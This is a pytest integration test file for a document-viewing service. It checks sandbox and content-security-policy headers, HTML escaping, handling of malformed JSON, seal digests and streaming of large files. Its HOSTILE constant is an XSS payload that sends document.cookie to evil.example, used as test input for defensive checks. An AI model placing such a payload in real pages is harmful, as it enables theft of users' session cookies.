"""Documents are shown as they are, and can do nothing to whoever looks at them."""

from __future__ import annotations

import json

import pytest

from services.browsing import Browse
from services.evidence import Evidence
from sunset.dossier.canonical import digest
from sunset_console.documents import LARGEST

pytestmark = pytest.mark.integration

HOSTILE = "<script>document.location='//evil.example/'+document.cookie</script><img src=x onerror=alert(1)>"


def policy(answer: object) -> dict[str, str]:
    given = answer.headers["content-security-policy"]
    parts = [part.strip().split(" ", 1) for part in given.split(";")]
    return {part[0]: part[1] if len(part) > 1 else "" for part in parts}


def test_a_document_comes_as_it_is_in_a_sandbox(run: Evidence, browse: Browse) -> None:
    run.dossier.page("plan", "plan", HOSTILE, "html")
    answer = browse().get(run.file("plan/plan.2.html"))
    assert answer.text == HOSTILE
    rules = policy(answer)
    assert "allow-scripts" not in rules["sandbox"]
    assert "allow-forms" not in rules["sandbox"]
    assert "allow-top-navigation" not in rules["sandbox"]
    assert "allow-popups" not in rules["sandbox"]
    assert rules["default-src"] == "'none'"
    assert "script-src" not in rules
    assert rules["form-action"] == rules["base-uri"] == "'none'"
    assert rules["frame-ancestors"] == "'self'"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"
    assert "set-cookie" not in answer.headers


def test_the_page_around_a_document_frames_it_without_scripts(run: Evidence, browse: Browse) -> None:
    answer = browse().get(run.view("plan/plan.1.html"))
    assert f'<iframe src="{run.file("plan/plan.1.html")}" sandbox="allow-same-origin"' in answer.text
    rules = policy(answer)
    assert rules["default-src"] == "'none'"
    assert rules["script-src"] == rules["style-src"] == rules["frame-ancestors"] == "'self'"


@pytest.mark.parametrize(
    ("suffix", "media_type"),
    [("html", "text/html; charset=utf-8"), ("md", "text/plain; charset=utf-8"), ("txt", "text/plain; charset=utf-8")],
)
def test_only_html_is_html(run: Evidence, browse: Browse, suffix: str, media_type: str) -> None:
    run.dossier.page("announce", "letter", HOSTILE, suffix)
    assert browse().get(run.file(f"announce/letter.1.{suffix}")).headers["content-type"] == media_type


def test_a_records_values_are_escaped_and_exact(run: Evidence, browse: Browse) -> None:
    run.dossier.record("assess", "shop", {"remark": HOSTILE, "n": 2**70, "text": "Größe  </pre>"})
    page = browse().get(run.view("assess/shop.1.json")).text
    assert "<script>document" not in page
    assert "<img" not in page
    assert "</pre>&#34;" not in page
    assert str(2**70) in page
    raw = browse().get(run.file("assess/shop.1.json"))
    assert raw.headers["content-type"] == "application/json"
    assert raw.content == run.dossier.store.read("assess/shop.1.json")


@pytest.mark.parametrize("content", [b"{", b"\xff\xfe", b"[" * 100_000, b'{"files": [{"path": 1}, 2]}', b"null", b""])
def test_a_record_that_is_none_is_shown_as_text(run: Evidence, browse: Browse, content: bytes) -> None:
    (run.path / "plan" / "broken.1.json").write_bytes(content)
    (run.path / "plan" / "broken.1.files.json").write_bytes(content)
    assert browse().get(run.view("plan/broken.1.json")).status_code == 200
    assert browse().get(run.view("plan/broken.1.files.json")).status_code == 200
    assert browse().get(run.url).status_code == 200


def test_values_that_a_page_shows_are_escaped(shelf: Evidence, browse: Browse) -> None:
    spec = {"title": HOSTILE, "decision": {"reason": HOSTILE, "replaced_by": HOSTILE}, "product": "shop"}
    dates = {"freeze": "2026-01-01T00:00:00Z", "cutover": "2026-02-01T00:00:00Z", "retain_until": "2030-01-01"}
    shelf.decide(reason=HOSTILE, started_by=HOSTILE, mode=HOSTILE, sources=[HOSTILE], spec={**spec, "timeline": dates})
    seal = shelf.seal("approve")
    risk = {"risk": HOSTILE, "likelihood": HOSTILE, "impact": HOSTILE, "mitigation": HOSTILE}
    person = {"by": HOSTILE, "name": HOSTILE, "comment": HOSTILE, "at": HOSTILE, "new_risks": [risk]}
    approval = {"gate": "approve", "answer": HOSTILE, "people": [person]}
    shelf.dossier.record("approve", "approval", {**approval, "seal": seal.path, "digest": HOSTILE})
    shelf.close(held=False, gaps=[HOSTILE], archive=HOSTILE)
    shelf.round(1, HOSTILE)
    for url in ("/sunset/", shelf.dag_url, shelf.url):
        text = browse().get(url).text
        assert "&lt;script&gt;document" in text
        assert "<script>document" not in text
        assert "<img" not in text


def test_a_document_is_held_against_the_newest_seal(run: Evidence, browse: Browse) -> None:
    page = run.view("plan/plan.1.html")
    assert "as sealed for approve" in browse().get(page).text
    run.dossier.record("freeze", "shop", {"position": "0/1"})
    assert "not sealed yet" in browse().get(run.view("freeze/shop.1.json")).text
    (run.path / "plan" / "plan.1.html").write_text("<h1>Another plan</h1>")
    assert "not as it was sealed for approve" in browse().get(page).text
    assert digest(b"<h1>Another plan</h1>") in browse().get(page).text


def test_large_documents_are_streamed_and_not_laid_out(run: Evidence, browse: Browse) -> None:
    run.dossier.record("discover", "shop", {"assets": ["x" * 1000] * (9 * 1024)})
    path = "discover/shop.1.json"
    assert (run.path / path).stat().st_size > 2 * LARGEST
    page = browse().get(run.view(path))
    assert "Too large to be laid out here" in page.text
    assert len(page.text) < 10_000
    with browse().stream("GET", run.file(path)) as answer:
        assert "content-length" not in answer.headers
        assert len(json.loads(answer.read())["assets"]) == 9 * 1024


def test_the_manifest_of_a_folder_is_a_table(run: Evidence, browse: Browse, tmp_path: object) -> None:
    (tmp_path / "dump").mkdir()
    (tmp_path / "dump" / "toc.dat").write_bytes(b"t" * 1234)
    run.dossier.add_tree("back_up", "shop-dump", tmp_path / "dump")
    page = browse().get(run.view("back_up/shop-dump.1.files.json")).text
    assert "<table" in page
    for shown in ("toc.dat", "1,234", digest(b"t" * 1234)):
        assert shown in page
